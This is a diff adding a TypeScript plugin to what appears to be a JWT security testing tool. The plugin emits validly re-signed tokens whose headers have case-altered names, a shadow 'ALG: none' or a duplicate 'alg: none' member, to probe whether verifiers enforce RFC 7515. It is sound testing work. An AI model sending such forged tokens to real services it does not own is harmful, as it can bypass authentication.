@@ -0,0 +1,116 @@
+/**
+ * Header Case / Duplicate Member Attack
+ *
+ * Emits JWT header parameter names with unexpected case, or with duplicate
+ * members, and re-signs over the exact header bytes so the signature stays
+ * valid. JSON member names are case-sensitive: `ALG` is not `alg`, so a
+ * header without a lowercase `alg` must be rejected. Libraries that
+ * normalize case (or pick the first of duplicate members) disagree.
+ *
+ * Variants:
+ * - uppercase: Every header name upper-cased (`ALG`, `TYP`, `KID`) - no `alg` at all
+ * - mixed: Every header name capitalized (`Alg`, `Typ`, `Kid`)
+ * - shadow: Real `alg` kept, plus `ALG: "none"` for case-insensitive lookups to find
+ * - duplicate: Real `alg` first, then a second `alg: "none"` member last
+ *
+ * Spec: RFC 7515 Section 4 - header parameter names are case-sensitive and
+ * MUST be unique; RFC 8725 Section 3.1 - validate the algorithm
+ * CWE-347: Improper Verification of Cryptographic Signature
+ */
+
+import type { MischiefPlugin } from "../types.js";
+
+type HeaderCaseVariant = "uppercase" | "mixed" | "shadow" | "duplicate";
+
+export const headerCase: MischiefPlugin = {
+	id: "header-case",
+	name: "Header Parameter Case Confusion",
+	severity: "high",
+	phase: "token-signing",
+
+	spec: {
+		rfc: "RFC 7515 Section 4",
+		cwe: "CWE-347",
+		description: "JOSE header parameter names are case-sensitive and MUST NOT be duplicated",
+	},
+
+	description: "Emits header names with unexpected case or duplicate members, validly signed",
+
+	options: [
+		{
+			name: "variant",
+			type: "string",
+			values: ["uppercase", "mixed", "shadow", "duplicate"],
+			default: "uppercase",
+			description: "How header parameter names are cased or duplicated (alias: mode)",
+		},
+	],
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+		if (!ctx.token.resign) {
+			return { applied: false, mutation: "Signing key not available", evidence: {} };
+		}
+
+		const variant =
+			(ctx.config.variant as HeaderCaseVariant | undefined) ??
+			(ctx.config.mode as HeaderCaseVariant | undefined) ??
+			"uppercase";
+		const entries = Object.entries(ctx.token.header);
+
+		let members: string[];
+		let mutation: string;
+
+		switch (variant) {
+			case "uppercase":
+				members = entries.map(([name, value]) => member(name.toUpperCase(), value));
+				mutation = "Upper-cased all header parameter names (no 'alg' member)";
+				break;
+
+			case "mixed":
+				members = entries.map(([name, value]) =>
+					member(name.charAt(0).toUpperCase() + name.slice(1), value),
+				);
+				mutation = "Capitalized all header parameter names";
+				break;
+
+			case "shadow":
+				members = [...entries.map(([name, value]) => member(name, value)), member("ALG", "none")];
+				mutation = "Added 'ALG: none' alongside the real 'alg'";
+				break;
+
+			case "duplicate":
+				members = [...entries.map(([name, value]) => member(name, value)), member("alg", "none")];
+				mutation = "Added a duplicate 'alg: none' member after the real 'alg'";
+				break;
+
+			default:
+				return {
+					applied: false,
+					mutation: `Unknown variant: ${variant}`,
+					evidence: { variant },
+				};
+		}
+
+		const emittedHeader = `{${members.join(",")}}`;
+		ctx.token.rawHeader = emittedHeader;
+		await ctx.token.resign();
+
+		return {
+			applied: true,
+			mutation,
+			evidence: {
+				variant,
+				originalHeader: { ...ctx.token.header },
+				emittedHeader,
+				signatureValid: true,
+			},
+		};
+	},
+};
+
+function member(name: string, value: unknown): string {
+	return `${JSON.stringify(name)}:${JSON.stringify(value)}`;
+}